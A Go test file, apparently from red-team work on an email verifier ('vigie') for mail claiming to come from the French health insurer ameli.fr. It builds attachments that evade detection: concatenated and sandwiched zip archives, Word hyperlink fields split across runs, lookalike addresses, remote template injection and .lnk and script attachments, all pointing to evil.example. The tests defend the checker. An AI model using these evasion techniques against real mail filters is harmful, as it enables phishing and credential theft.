package verify

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Red team red32 (a helper session attacking 88ebdb0: the zip and
// Office readers, calendar parts, the text read in place). Each test
// below fails at 88ebdb0. Every message has a sender proven by the
// trusted mx.vigie.example (provenHead), so that what is missed leaves
// it Official. The HTML findings (8, 14, 15) are in
// redteam_red32html_test.go.

// red32Zip builds a zip archive of the files, in the order given.
func red32Zip(t *testing.T, files ...[2]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, f := range files {
		fw, err := w.Create(f[0])
		require.NoError(t, err)
		_, err = fw.Write([]byte(f[1]))
		require.NoError(t, err)
	}
	require.NoError(t, w.Close())
	return buf.Bytes()
}

// red32Attach is a proven message with an official text part and an
// attachment of that header holding raw, base64-encoded.
func red32Attach(head string, raw []byte) string {
	return red31Attached(head + "\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString(raw))
}

const (
	red32Docx = "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document; name=attestation.docx"
	red32Odt  = "Content-Type: application/vnd.oasis.opendocument.text; name=attestation.odt"
	red32Word = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>`
	red32ODF  = `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ` +
		`xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ` +
		`xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>`
	red32Rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
)

// red32Field is a Word paragraph holding a complex field whose
// instruction is written in the runs given, as Word splits it when it
// is edited.
func red32Field(instr ...string) string {
	s := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, i := range instr {
		s += `<w:r><w:instrText xml:space="preserve">` + i + `</w:instrText></w:r>`
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Votre espace</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

// TestRed32ZipConcatenated (finding 1, a miss, sure). Two zip archives
// written one after the other make one file: Go's archive/zip (as
// WinRAR) reads the central directory at the end, the second archive;
// 7-Zip reads the first one's entries from the start, and Windows
// Explorer may show either (Perception Point, "zip concatenation",
// 2024). The page in the first archive, never read, leaves the message
// Official. Root cause: mimezip.go readZip trusts the directory found at
// the end to describe the whole file.
func TestRed32ZipConcatenated(t *testing.T) {
	c := mailChecker(t)
	evil := red32Zip(t, [2]string{"releve.html", `<a href="//evil.example/login">Votre espace</a>`})
	benign := red32Zip(t, [2]string{"lisez-moi.txt", "Bonjour"})
	for _, tt := range []struct {
		name string
		raw  []byte
	}{
		{"evil then benign", append(append([]byte{}, evil...), benign...)},
		{"junk then evil then benign", append(append([]byte("MZ stub\x00"), evil...), benign...)},
	} {
		t.Run(tt.name, func(t *testing.T) {
			assertNotOfficialMail(t, c, red32Attach("Content-Type: application/zip; name=releve.zip", tt.raw), CodeUnreadContent)
		})
	}
	t.Run("a zip after a stub is still read", func(t *testing.T) {
		// A self-extracting stub before one archive: its entries are
		// the file's, read as they are.
		rep := assertNotOfficialMail(t, c, red32Attach("Content-Type: application/zip; name=releve.zip", append([]byte("MZ stub\x00"), evil...)), CodeUnverifiedLink)
		assert.False(t, rep.Has(CodeUnreadContent), "%v", rep.Codes())
	})
}

// TestRed32OfficeLinksMissed (finding 2, a miss, sure). Word joins the
// instruction of a complex field from every w:instrText run between its
// begin and separate marks, and Word splits it in runs as the text is
// edited ("HYPER" "LINK ..."); vigie read each run alone: a field whose
// word HYPERLINK is split is no link (Official), one whose URL is split
// reads https://www.ameli.fr while Word goes to
// www.ameli.fr.evil.example. An OpenDocument text's headers and footers
// are in styles.xml (master pages), never read. Excel shows a
// =HYPERLINK("url","label") formula's label as a link (the formula is in
// the sheet's XML, in <f>). Office templates and the other
// macro-enabled or binary formats (.dotm, .xltx, .potx, .ppsm, .xlsb,
// .ott) open in Word, Excel, PowerPoint or LibreOffice with a double
// click as the files vigie reads do. Root cause: mimezip.go officeLinks
// (runs read alone), readZipEntry (which XML is read), zipPart (names).
func TestRed32OfficeLinksMissed(t *testing.T) {
	c := mailChecker(t)
	evilRels := red32Rels + `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://evil.example/login" TargetMode="External"/></Relationships>`
	for _, tt := range []struct {
		name, head string
		files      [][2]string
	}{
		{"HYPERLINK split in two runs", red32Docx, [][2]string{{"word/document.xml", red32Word + red32Field(" HYPER", `LINK "https://evil.example/login" `) + `</w:body></w:document>`}}},
		{"URL split in two runs", red32Docx, [][2]string{{"word/document.xml", red32Word + red32Field(` HYPERLINK "https://www.ameli.fr`, `.evil.example/login" `) + `</w:body></w:document>`}}},
		{"odt header in styles.xml", red32Odt, [][2]string{{"styles.xml", `<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" ` +
			`xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:master-styles><style:master-page><style:header><text:p>` +
			`<text:a xlink:href="https://evil.example/login">Votre espace</text:a></text:p></style:header></style:master-page></office:master-styles></office:document-styles>`}}},
		{"xlsx HYPERLINK formula", "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet; name=releve.xlsx", [][2]string{{"xl/worksheets/sheet1.xml",
			`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>HYPERLINK("https://evil.example/login","Votre espace")</f><v>Votre espace</v></c></row></sheetData></worksheet>`}}},
		{"dotm", "Content-Type: application/octet-stream; name=courrier.dotm", [][2]string{{"word/_rels/document.xml.rels", evilRels}}},
		{"xltx", "Content-Type: application/octet-stream; name=releve.xltx", [][2]string{{"xl/worksheets/_rels/sheet1.xml.rels", evilRels}}},
		{"potx", "Content-Type: application/octet-stream; name=info.potx", [][2]string{{"ppt/slides/_rels/slide1.xml.rels", evilRels}}},
		{"ppsm", "Content-Type: application/octet-stream; name=info.ppsm", [][2]string{{"ppt/slides/_rels/slide1.xml.rels", evilRels}}},
		{"xlsb", "Content-Type: application/octet-stream; name=releve.xlsb", [][2]string{{"xl/worksheets/_rels/sheet1.bin.rels", evilRels}}},
		{"ott", "Content-Type: application/octet-stream; name=courrier.ott", [][2]string{{"content.xml", red32ODF + `<text:p><text:a xlink:href="https://evil.example/login">ici</text:a></text:p></office:text></office:body></office:document-content>`}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			code, url := CodeUnverifiedLink, "https://evil.example/login"
			if tt.name == "URL split in two runs" {
				code, url = CodeTargetEmbed, "https://www.ameli.fr.evil.example/login"
			}
			rep := assertNotOfficialMail(t, c, red32Attach(tt.head, red32Zip(t, tt.files...)), code)
			assert.Contains(t, reportURLs(rep), url)
		})
	}
}

// TestRed32OfficeTextShown (finding 3, a miss, sure). A document shows
// its words: "Envoyez votre RIB a remboursement@ameli-aide.com" in a
// .docx (the address written across two runs, as Word writes a change of
// bold), a .pptx slide, an .xlsx cell or an .odt paragraph is an address
// the reader writes to. vigie read only the hyperlinks of Office files:
// Official. As for the Subject (red31 finding 5), only a lookalike or
// suspicious host or address shown counts (an official document naming
// a harmless site stays Official). Root cause: mimezip.go officeLinks
// (text not read).
func TestRed32OfficeTextShown(t *testing.T) {
	c := mailChecker(t)
	for _, tt := range []struct {
		name, head string
		files      [][2]string
	}{
		{"docx runs", red32Docx, [][2]string{{"word/document.xml", red32Word + `<w:p><w:r><w:t xml:space="preserve">Envoyez votre RIB a remboursement@ameli-</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>aide.com</w:t></w:r></w:p></w:body></w:document>`}}},
		{"pptx slide", "Content-Type: application/octet-stream; name=info.pptx", [][2]string{{"ppt/slides/slide1.xml", `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>Connectez-vous sur ameli-aide.com</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`}}},
		{"xlsx shared string", "Content-Type: application/octet-stream; name=releve.xlsx", [][2]string{{"xl/sharedStrings.xml", `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>Envoyez votre RIB a remboursement@ameli-aide.com</t></si></sst>`}}},
		{"odt span", red32Odt, [][2]string{{"content.xml", red32ODF + `<text:p>Envoyez votre RIB a remboursement@ameli-<text:span>aide</text:span>.com</text:p></office:text></office:body></office:document-content>`}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rep := red31Check(t, c, red32Attach(tt.head, red32Zip(t, tt.files...)))
			assert.Equal(t, Lookalike, rep.Status, "%v", rep.Reasons)
		})
	}
	t.Run("an official document naming sites stays official", func(t *testing.T) {
		msg := red32Attach(red32Docx, red32Zip(t, [2]string{"word/document.xml", red32Word + `<w:p><w:r><w:t>Retrouvez-nous sur ameli.fr et sur le site du service public, service-public.fr.</w:t></w:r></w:p>` +
			`<w:p><w:r><w:t>Mise a jour du 01.02.2026, version 2.1.</w:t></w:r><w:r><w:tab/><w:t>Assurance Maladie</w:t></w:r></w:p></w:body></w:document>`}))
		assertOfficialMail(t, c, msg)
	})
}

// TestRed32ShortcutLnk (finding 4, a miss, sure). A Windows shell link
// (.lnk) opens its target with a double click: a URL, or mshta or
// PowerShell given one, the commonest attachment of loader campaigns
// since Office blocked macros. It is binary; vigie skipped it: Official.
// Not opened, not vouched for: unread-content, as an .iso is. Root
// cause: mimezip.go unopenedArchive (no .lnk).
func TestRed32ShortcutLnk(t *testing.T) {
	c := mailChecker(t)
	lnk := "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
	for _, tt := range []struct {
		name, msg string
	}{
		{"attached", red31Attached("Content-Type: application/octet-stream; name=releve.lnk\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString([]byte(lnk)))},
		{"in a zip", red32Attach("Content-Type: application/zip; name=releve.zip", red32Zip(t, [2]string{"releve.pdf.lnk", lnk}))},
	} {
		t.Run(tt.name, func(t *testing.T) { assertNotOfficialMail(t, c, tt.msg, CodeUnreadContent) })
	}
}

// TestRed32CalendarHTMLDescription (finding 5, a miss, sure). Outlook
// shows an invitation's X-ALT-DESC;FMTTYPE=text/html property as its
// description, rendered as HTML, links live; vigie searched the calendar
// only as text, where href="//evil.example/login" or an entity-written
// URL is no link: Official. Root cause: mime.go walk (calendar values
// read as text only).
func TestRed32CalendarHTMLDescription(t *testing.T) {
	c := mailChecker(t)
	for _, desc := range []string{
		`<html><body><a href="//evil.example/login">Mon espace</a></body></html>`,
		"\x00quoted",
		`<a href="https:&#47;&#47;evil&#46;example/login">Mon espace</a>`,
		`<p>Votre RDV\n<a href="//evil.example/login">Mon espace</a>\, merci</p>`,
	} {
		param := "FMTTYPE=text/html"
		if desc == "\x00quoted" {
			// A parameter value may be quoted (RFC 5545, 3.2).
			param, desc = `FMTTYPE="text/html"`, `<a href="//evil.example/login">Mon espace</a>`
		}
		ics := "BEGIN:VCALENDAR\nBEGIN:VEVENT\nUID:1@ameli.fr\nSUMMARY:RDV\nX-ALT-DESC;" + param + ":" + desc + "\nDESCRIPTION:Votre RDV\nEND:VEVENT\nEND:VCALENDAR\n"
		t.Run(desc, func(t *testing.T) {
			rep := assertNotOfficialMail(t, c, red31Attached("Content-Type: text/calendar; method=REQUEST\n\n"+ics), CodeUnverifiedLink)
			assert.Contains(t, reportURLs(rep), "https://evil.example/login")
		})
		t.Run("in a zip "+desc, func(t *testing.T) {
			rep := assertNotOfficialMail(t, c, red32Attach("Content-Type: application/zip; name=rdv.zip", red32Zip(t, [2]string{"rdv.ics", ics})), CodeUnverifiedLink)
			assert.Contains(t, reportURLs(rep), "https://evil.example/login")
		})
	}
}

// TestRed32OfficeFalseAlarms (finding 6, false alarms, sure). Genuine
// Office and OpenDocument files carry references that are no links: a
// table of contents is HYPERLINK \l "_Toc..." fields (a bookmark in the
// document; vigie read the switch "\l" as a URL: Unknown); every .odt
// with a picture refers to it as xlink:href="Pictures/..." and internal
// links are "#bookmark" (Invalid); a document made from a template
// names it in settings.xml.rels as an External file:///C:/... target
// (Suspicious, dangerous-scheme), a file on the writer's disk Word looks
// for, not a site. Root cause: mimezip.go officeLinks, fieldLink.
func TestRed32OfficeFalseAlarms(t *testing.T) {
	c := mailChecker(t)
	for _, tt := range []struct {
		name, head string
		files      [][2]string
	}{
		{"table of contents", red32Docx, [][2]string{{"word/document.xml", red32Word + red32Field(` HYPERLINK \l "_Toc153725401" `) +
			`<w:p><w:fldSimple w:instr=" HYPERLINK \l &quot;_Toc153725402&quot; "><w:r><w:t>Annexe</w:t></w:r></w:fldSimple></w:p>` +
			red32Field(` HYPERLINK "https://www.ameli.fr/assure" \o "Votre espace" `) + `</w:body></w:document>`}}},
		{"odt picture and bookmark", red32Odt, [][2]string{{"content.xml", red32ODF + `<text:p><draw:frame><draw:image xlink:href="Pictures/10000000000000C8000000C8.png" xlink:type="simple"/></draw:frame>` +
			`<text:a xlink:href="#Annexe">Voir l'annexe</text:a> <text:a xlink:href="https://www.ameli.fr/assure">ameli.fr</text:a></text:p></office:text></office:body></office:document-content>`}}},
		{"template on the writer's disk", red32Docx, [][2]string{{"word/_rels/settings.xml.rels", red32Rels +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\jdupont\AppData\Roaming\Microsoft\Templates\Courrier%20CPAM.dotx" TargetMode="External"/></Relationships>`}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			assertOfficialMail(t, c, red32Attach(tt.head, red32Zip(t, tt.files...)))
		})
	}
	t.Run("a template fetched from a server is still read", func(t *testing.T) {
		// Remote template injection: Word fetches it when the file opens.
		msg := red32Attach(red32Docx, red32Zip(t, [2]string{"word/_rels/settings.xml.rels", red32Rels +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`}))
		assertNotOfficialMail(t, c, msg, CodeUnverifiedLink)
	})
}

// TestRed32CalendarByNameFolded (finding 7, a false alarm, sure). An
// invitation attached as application/octet-stream named invitation.ics
// is opened by the calendar app, which unfolds its lines; no client
// shows it as raw text. vigie read it both ways (red31's reading for a
// part named as a calendar) and found https://www.am in the folded
// official URL: Unknown. The raw reading is for a part whose type is
// text (Thunderbird shows text/plain named .ics inline). Root cause:
// mime.go walk (shownRaw by type only for calendar types).
func TestRed32CalendarByNameFolded(t *testing.T) {
	c := mailChecker(t)
	ics := "BEGIN:VCALENDAR\nBEGIN:VEVENT\nUID:1@ameli.fr\nSUMMARY:RDV\nDESCRIPTION:Votre RDV\\, https://www.am\n eli.fr/assure\nEND:VEVENT\nEND:VCALENDAR\n"
	for _, head := range []string{
		"Content-Type: application/octet-stream; name=invitation.ics",
		"Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=contact.vcf",
	} {
		t.Run(head, func(t *testing.T) { assertOfficialMail(t, c, red31Attached(head+"\n\n"+ics)) })
	}
}

// TestRed32ZipDirectoryBounded (finding 9, resource exhaustion). Go's
// archive/zip reads the whole central directory before vigie counts the
// entries: a 13.8 MB attachment of 300,000 empty directory records (an
// 18 MB message, within the 25 MB default) cost 133 MB and 2.9 million
// allocations to find it holds more entries than vigie reads. The
// records are counted before the directory is parsed. Root cause:
// mimezip.go readZip (maxZipEntries checked after zip.NewReader).
func TestRed32ZipDirectoryBounded(t *testing.T) {
	c := mailChecker(t)
	const n = 100000
	var raw bytes.Buffer
	record := make([]byte, 46)
	binary.LittleEndian.PutUint32(record, 0x02014b50)
	for range n {
		raw.Write(record)
	}
	end := make([]byte, 22)
	binary.LittleEndian.PutUint32(end, 0x06054b50)
	binary.LittleEndian.PutUint16(end[8:], uint16(n%65536))
	binary.LittleEndian.PutUint16(end[10:], uint16(n%65536))
	binary.LittleEndian.PutUint32(end[12:], uint32(raw.Len()))
	raw.Write(end)
	msg := red32Attach("Content-Type: application/zip; name=releve.zip", raw.Bytes())
	assertNotOfficialMail(t, c, msg, CodeUnreadContent)
	allocs := testing.AllocsPerRun(1, func() { red31Check(t, c, msg) })
	assert.Less(t, allocs, float64(n), "allocations grow with the directory's records")
}

// TestRed32EmbeddedOfficeDocument (finding 10, a false alarm, sure).
// Every chart in a Word or PowerPoint file keeps its data in an Excel
// workbook embedded in the package (word/embeddings/*.xlsx); vigie took
// it for an archive in the archive: Unknown (unread-content) for a
// genuine report with a chart. An Office document embedded in one is
// read as one, one level down (a link in it is still found); a plain
// .zip inside stays unread. Root cause: mimezip.go readZipEntry.
func TestRed32EmbeddedOfficeDocument(t *testing.T) {
	c := mailChecker(t)
	doc := [2]string{"word/document.xml", red32Word + `<w:p><w:r><w:t>Bilan annuel</w:t></w:r></w:p></w:body></w:document>`}
	workbook := func(rels string) [2]string {
		return [2]string{"word/embeddings/Microsoft_Excel_Worksheet.xlsx", string(red32Zip(t, [2]string{"xl/worksheets/sheet1.xml", `<worksheet/>`},
			[2]string{"xl/worksheets/_rels/sheet1.xml.rels", red32Rels + rels + `</Relationships>`}))}
	}
	t.Run("a chart's workbook", func(t *testing.T) {
		assertOfficialMail(t, c, red32Attach(red32Docx, red32Zip(t, doc, workbook(""))))
	})
	t.Run("a link in the embedded workbook", func(t *testing.T) {
		rels := `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://evil.example/login" TargetMode="External"/>`
		rep := assertNotOfficialMail(t, c, red32Attach(red32Docx, red32Zip(t, doc, workbook(rels))), CodeUnverifiedLink)
		assert.Contains(t, reportURLs(rep), "https://evil.example/login")
	})
	t.Run("a zip in the embeddings", func(t *testing.T) {
		inner := red32Zip(t, [2]string{"releve.html", `<a href="//evil.example/login">x</a>`})
		assertNotOfficialMail(t, c, red32Attach(red32Docx, red32Zip(t, doc, [2]string{"word/embeddings/a.zip", string(inner)})), CodeUnreadContent)
	})
}

// TestRed32ProgramsAttached (finding 11, a miss, sure). A script or
// program attached (releve.js, run by Windows Script Host with a double
// click; .vbs, .wsf, .ps1, .bat, .exe, .msi...) or a compiled HTML help
// file (.chm, whose viewer opens the pages it holds) fetches what its
// code writes, which vigie does not read: Official. Not opened, not
// vouched for: unread-content, attached or in a zip. Root cause:
// mimezip.go unopenedArchive (no programs).
func TestRed32ProgramsAttached(t *testing.T) {
	c := mailChecker(t)
	for _, name := range []string{"releve.js", "releve.vbs", "releve.wsf", "releve.ps1", "releve.bat", "releve.exe", "releve.msi", "aide.chm", "releve.one"} {
		t.Run(name, func(t *testing.T) {
			assertNotOfficialMail(t, c, red31Attached("Content-Type: application/octet-stream; name="+name+"\n\nvar u='ht'+'tps://evil.example/p';"), CodeUnreadContent)
			assertNotOfficialMail(t, c, red32Attach("Content-Type: application/zip; name=releve.zip", red32Zip(t, [2]string{name, "x"})), CodeUnreadContent)
		})
	}
}

// TestRed32ContentLinesQuotedPrintable (finding 12, a miss, sure).
// vCard 2.1 and vCalendar 1.0 (Outlook's .vcf export, .vcs) write a value
// in quoted-printable (ENCODING=QUOTED-PRINTABLE, or the bare
// QUOTED-PRINTABLE parameter), its soft line breaks ("=" at a line's
// end) continued on the next line; Outlook and the address books show
// it decoded. vigie read the encoded value, where
// remboursement@ameli-aide=2Ecom is no address: Official. Root cause:
// mime.go walk (content lines read unfolded only).
func TestRed32ContentLinesQuotedPrintable(t *testing.T) {
	c := mailChecker(t)
	for _, tt := range []struct{ name, head, card string }{
		{"vcf", "Content-Type: text/x-vcard; name=conseiller.vcf",
			"BEGIN:VCARD\nVERSION:2.1\nN:Service\nNOTE;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:Envoyez votre RIB =C3=A0 remboursement@ameli-aide=2Ecom\nEND:VCARD\n"},
		{"soft break", "Content-Type: text/x-vcard; name=conseiller.vcf",
			"BEGIN:VCARD\nVERSION:2.1\nNOTE;QUOTED-PRINTABLE:Envoyez votre RIB a remboursement@ameli=\n-aide.com\nEND:VCARD\n"},
		{"vcs", "Content-Type: text/x-vcalendar; name=rdv.vcs",
			"BEGIN:VCALENDAR\nVERSION:1.0\nBEGIN:VEVENT\nDESCRIPTION;ENCODING=QUOTED-PRINTABLE:Connectez-vous sur ameli-aide=2Ecom/connexion\nEND:VEVENT\nEND:VCALENDAR\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rep := red31Check(t, c, red31Attached(tt.head+"\n\n"+tt.card))
			assert.Equal(t, Lookalike, rep.Status, "%v", rep.Reasons)
		})
	}
}

// TestRed32ZipEntriesPerMessage (finding 13, resource). maxZipEntries
// bounded the entries of one archive, not of a message: a 19 MB message
// of 111 zip parts, each of 1,000 small HTML pages, had vigie parse
// 111,000 documents (7.3 million allocations, about 2 s of CPU a
// message), and an empty entry costs a parse without using up the text
// budget. The entries read are counted for the whole message. Root
// cause: mimezip.go readZip (a bound per archive).
func TestRed32ZipEntriesPerMessage(t *testing.T) {
	c := mailChecker(t)
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for i := range maxZipEntries {
		f, err := w.CreateHeader(&zip.FileHeader{Name: strconv.Itoa(i) + ".htm", Method: zip.Store})
		require.NoError(t, err)
		_, err = f.Write([]byte(`<a href="https://www.ameli.fr/">x</a>`))
		require.NoError(t, err)
	}
	require.NoError(t, w.Close())
	part := "--b\nContent-Type: application/zip; name=releve.zip\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString(buf.Bytes()) + "\n"
	const parts = 20
	msg := red31Mail("", "multipart/mixed; boundary=b", strings.Repeat(part, parts)+"--b--\n")
	one := testing.AllocsPerRun(1, func() { red31Check(t, c, red31Mail("", "multipart/mixed; boundary=b", part+"--b--\n")) })
	all := testing.AllocsPerRun(1, func() { red31Check(t, c, msg) })
	assert.Less(t, all, 3*one, "%d archives of %d entries cost %v allocations, one %v", parts, maxZipEntries, all, one)
	assertNotOfficialMail(t, c, msg, CodeUnreadContent)
}

// TestRed32ZipSandwiched (finding 16, a miss, sure). finding 1's rule
// checks that the file starts with an entry the central directory lists;
// an archive written between the entries and the directory of another
// (the directory's offset moved past it) passes it: archive/zip reads
// the outer directory, while a reader that scans the file for archives
// finds the inner one, whose page was never read: Official. Two
// end-of-central-directory records are two archives. Root cause:
// mimezip.go readZip.
func TestRed32ZipSandwiched(t *testing.T) {
	c := mailChecker(t)
	evil := red32Zip(t, [2]string{"releve.html", `<a href="//evil.example/login">Votre espace</a>`})
	benign := red32Zip(t, [2]string{"lisez-moi.txt", "Bonjour"})
	end := bytes.LastIndex(benign, []byte("PK\x05\x06"))
	dirOffset := binary.LittleEndian.Uint32(benign[end+16:])
	var raw []byte
	raw = append(raw, benign[:dirOffset]...)
	raw = append(raw, evil...)
	raw = append(raw, benign[dirOffset:]...)
	binary.LittleEndian.PutUint32(raw[len(raw)-len(benign)+end+16:], dirOffset+uint32(len(evil)))
	r, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	require.NoError(t, err)
	require.Len(t, r.File, 1)
	require.Equal(t, "lisez-moi.txt", r.File[0].Name, "archive/zip reads the outer archive")
	assertNotOfficialMail(t, c, red32Attach("Content-Type: application/zip; name=releve.zip", raw), CodeUnreadContent)
	t.Run("a workbook stored in a document is no second archive", func(t *testing.T) {
		var buf bytes.Buffer
		w := zip.NewWriter(&buf)
		for _, f := range [][2]string{{"word/document.xml", red32Word + `<w:p><w:r><w:t>Bilan</w:t></w:r></w:p></w:body></w:document>`},
			{"word/embeddings/Microsoft_Excel_Worksheet.xlsx", string(red32Zip(t, [2]string{"xl/worksheets/sheet1.xml", `<worksheet/>`}))}} {
			fw, err := w.CreateHeader(&zip.FileHeader{Name: f[0], Method: zip.Store})
			require.NoError(t, err)
			_, err = fw.Write([]byte(f[1]))
			require.NoError(t, err)
		}
		require.NoError(t, w.Close())
		assertOfficialMail(t, c, red32Attach(red32Docx, buf.Bytes()))
	})
}

// TestRed32WordRunSpaces (finding 17, a miss, likely). Word removes the
// white space at the start and end of a w:t that is not marked
// xml:space="preserve" (ECMA-376 17.3.3.31: not marked significant, it
// is removed when the run is added to the document), and draws a
// w:noBreakHyphen as a hyphen. "remboursement@ameli- " + "aide.com" in
// two runs shows remboursement@ameli-aide.com; vigie read the space (no
// address), and "ameli" + noBreakHyphen + "aide.com" without the
// hyphen: Official. Root cause: mimeoffice.go officeLinks (run text
// written as the XML holds it).
func TestRed32WordRunSpaces(t *testing.T) {
	c := mailChecker(t)
	for _, runs := range []string{
		`<w:r><w:t>Envoyez votre RIB a remboursement@ameli- </w:t></w:r><w:r><w:t> aide.com</w:t></w:r>`,
		`<w:r><w:t xml:space="preserve">Envoyez votre RIB a remboursement@ameli</w:t></w:r><w:r><w:noBreakHyphen/></w:r><w:r><w:t>aide.com</w:t></w:r>`,
	} {
		t.Run(runs, func(t *testing.T) {
			rep := red31Check(t, c, red32Attach(red32Docx, red32Zip(t, [2]string{"word/document.xml", red32Word + `<w:p>` + runs + `</w:p></w:body></w:document>`})))
			assert.Equal(t, Lookalike, rep.Status, "%v", rep.Reasons)
		})
	}
	t.Run("preserved spaces part", func(t *testing.T) {
		msg := red32Attach(red32Docx, red32Zip(t, [2]string{"word/document.xml", red32Word + `<w:p><w:r><w:t xml:space="preserve">Retrouvez-nous sur </w:t></w:r><w:r><w:t>ameli.fr</w:t></w:r></w:p></w:body></w:document>`}))
		assertOfficialMail(t, c, msg)
	})
}
